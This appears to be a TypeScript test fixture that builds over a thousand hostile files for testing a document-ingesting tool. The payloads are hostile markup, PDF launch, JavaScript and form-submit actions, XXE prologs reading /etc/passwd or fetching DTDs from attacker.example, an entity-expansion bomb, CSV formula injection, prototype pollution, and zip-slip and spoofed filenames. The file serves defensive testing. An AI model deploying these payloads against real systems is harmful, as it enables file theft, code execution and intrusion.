import { docxOf, docxParts, paragraph, run } from '../support/docx-of.ts';
import { linesAt, pdfOf } from '../support/pdf-of.ts';
import { zipOf } from '../support/zip-of.ts';
import { DEAD } from './hostile-links.ts';
import { HOSTILE_MARKUP } from './hostile-markup.ts';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
}

/** Words that make an article of whatever stands beside them. */
const WORDS =
  'The hostile file says this in many words, so that whoever reads it takes it for an article of its own, number';

const utf8 = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);
const SHORT = DEAD.map((address) => address.replaceAll('alert(1)', 'pwned()')).filter(
  ({ length }) => length < 200,
);

const pages = HOSTILE_MARKUP.map((markup, at) => ({
  name: `page-${at}.html`,
  bytes: utf8(`<!doctype html><title>Page ${at}</title><article><p>${WORDS} ${at}.</p>${markup}</article>`),
}));

const MARKDOWN_LINKS: readonly ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}> "title")`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[link][r]\n\n[r]: ${address}`,
  (address) => `<a href="${address}">raw</a>`,
];

const markdown = SHORT.map((address, at) => ({
  name: `markdown-${at}.md`,
  bytes: utf8(
    `# Markdown ${at}\n\n${WORDS} ${at}. ${MARKDOWN_LINKS[at % MARKDOWN_LINKS.length]?.(address) ?? ''}\n`,
  ),
}));

/** An address as XML may hold it; what it may not is left to the tests of broken documents. */
const inXml = (address: string): string => address.replaceAll(/[^\t\n\r -\ud7ff\ue000-\ufffd]/gu, '');
const field = (address: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "${inXml(address).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('field')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const documents = SHORT.map((address, at) => ({
  name: `document-${at}.docx`,
  bytes: docxOf(
    paragraph(`Document ${at}`, 'Title') +
      `<w:p>${run(`${WORDS} ${at} `)}<w:hyperlink r:id="x">${run('a trap')}</w:hyperlink></w:p>` +
      field(address),
    { relations: [['x', at % 3 === 0 ? 'image' : 'hyperlink', inXml(address).replaceAll('"', '&quot;')]] },
  ),
}));

const PROLOGS = [
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE x PUBLIC "-//x" "https://attacker.example/x.dtd">',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/x.dtd"> %p;]>',
  `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(500)}"><!ENTITY b "${'&a;'.repeat(500)}">]>`,
  '<!doctype x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  '<?xml-stylesheet href="javascript:pwned()"?>',
];
const prologs = PROLOGS.flatMap((prolog, at) =>
  ['word/document.xml', 'word/styles.xml', 'docProps/core.xml', '[Content_Types].xml'].map((part) => {
    const parts: Record<string, string> = docxParts(paragraph(`${WORDS} ${at}.`));
    const xml = parts[part] ?? '';
    return {
      name: `prolog-${at}-${part.replaceAll(/\W/gu, '')}.docx`,
      bytes: zipOf({ ...parts, [part]: xml.replace('?>', `?>${prolog}`) }),
    };
  }),
);

const ACTIONS = [
  '/S /JavaScript /JS (pwned\\(\\))',
  '/S /URI /URI (javascript:pwned\\(\\))',
  '/S /Launch /F (cmd.exe)',
  '/S /SubmitForm /F (https://attacker.example/)',
  '/S /ImportData /F (https://attacker.example/)',
  '/S /GoToR /F (https://attacker.example/x.pdf) /D [0 /Fit]',
  '/S /Rendition /JS (pwned\\(\\))',
  '/S /Named /N /Print',
];
const prints = ACTIONS.flatMap((action, at) =>
  ['catalogue', 'page'].map((place) => ({
    name: `print-${at}-${place}.pdf`,
    bytes: pdfOf([linesAt([`${WORDS} ${at} ${place}.`], { x: 50, y: 700 })], {
      info: { Title: '<img src=x onerror=pwned()>' },
      [place]:
        place === 'catalogue'
          ? `/OpenAction << ${action} >> /AA << /WC << ${action} >> >>`
          : `/AA << /O << ${action} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << ${action} >> >>]`,
    }),
  })),
);

const CELLS = [
  '=HYPERLINK("https://attacker.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '＝1',
  '<script>pwned()</script>',
  'javascript:pwned()',
  '__proto__',
  '{"__proto__":{"pwned":1}}',
];
const tables = CELLS.map((cell, at) => ({
  name: `table-${at}.csv`,
  bytes: utf8(
    ['text', 'title', 'url', '__proto__', cell]
      .map((head) => `"${head.replaceAll('"', '""')}"`)
      .join(',')
      .concat(
        '\n',
        Array.from({ length: 5 }, () => `"${cell.replaceAll('"', '""')} ${WORDS} ${at}"`).join(','),
        '\n',
      ),
  ),
}));

const NAMES = [
  '../../x.txt',
  '..\\..\\x.txt',
  'C:\\x.txt',
  '/etc/passwd',
  '--proto--',
  'constructor.txt',
  '\u202etxt.exe',
  '<img src=x onerror=pwned()>.txt',
  'CON',
  'a\0b.txt',
  '%2e%2e/x.txt',
  "'><script>pwned()</script>.html",
];
/** What packs the archives takes names for keys, so this one is written into it afterwards. */
const withProto = (archive: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(Buffer.from(archive).toString('latin1').replaceAll('--proto--', '__proto__'), (letter) =>
    letter.charCodeAt(0),
  );
const archives = NAMES.map((name, at) => ({
  name: `archive-${at}.zip`,
  bytes: withProto(zipOf([[name, `${WORDS} ${at} in an archive.`]])),
}));

const SAVED = ['text/html', 'text/html; charset="utf-7"', 'message/rfc822', 'application/javascript'].map(
  (type, at) => ({
    name: `saved-${at}.mhtml`,
    bytes: utf8(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\nSnapshot-Content-Location: javascript:pwned()\r\n\r\n--b\r\nContent-Type: ${type}\r\n\r\n<p>${WORDS} ${at}.</p>+ADw-script+AD4-pwned()+ADw-/script+AD4-<script>pwned()</script>\r\n--b--\r\n`,
    ),
  }),
);

const plain = [
  '<script>pwned()</script>',
  '+ADw-script+AD4-pwned()',
  '\u202e\u2066pwned\u2069',
  'javascript:pwned()',
].map((text, at) => ({
  name: `plain-${at}.txt`,
  bytes: utf8(`${WORDS} ${at}. ${text}\n`),
}));

/** More than a thousand files, each of which tries something; every one calls `pwned` where it can. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...pages,
  ...markdown,
  ...documents,
  ...prologs,
  ...prints,
  ...tables,
  ...archives,
  ...SAVED,
  ...plain,
];
